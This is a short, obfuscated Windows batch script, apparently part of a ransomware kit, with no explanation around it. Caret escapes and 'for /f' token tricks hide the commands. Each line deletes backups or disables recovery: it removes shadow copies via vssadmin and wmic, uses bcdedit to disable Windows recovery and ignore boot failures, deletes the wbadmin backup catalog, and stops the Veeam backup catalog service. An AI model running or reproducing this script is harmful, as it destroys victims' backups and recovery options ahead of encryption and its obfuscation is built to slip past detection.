REM run 1747 v4
^fo^r /^f "tokens=1 delims=#" %%i ^in ("vssadmin#riei#uprr") d^o %%^i d^e^le^te s^hado^w^s /^a^l^l /q^uiet
for /^f "tokens=3 delims=~" %%^i i^n ("lfwd~uuvy~wmic") d^o %%^i shad^owc^o^py d^e^le^te
fo^r /f "tokens=2 delims=@" %%i in ("jwom@bcdedit@etcz") ^d^o %%^i /^s^et {d^efa^u^lt} recov^er^ye^nabl^ed ^no
^f^or /^f "tokens=2 delims=~" %%i ^in ("ggql~bcdedit~ppbj") ^do %%i /set {^def^au^l^t} b^oo^t^stat^u^spol^icy ^igno^r^ea^llfail^ur^e^s
^for /^f "tokens=2 delims=@" %%i in ("pivl@wbadmin@jgao") do %%i ^delete ^c^a^t^a^log -^qui^e^t
for /^f "tokens=2 delims=@" %%^i ^i^n ("blwn@net@xkow") do %%^i s^t^op "Veeam Backup Catalog Data Service" /^y
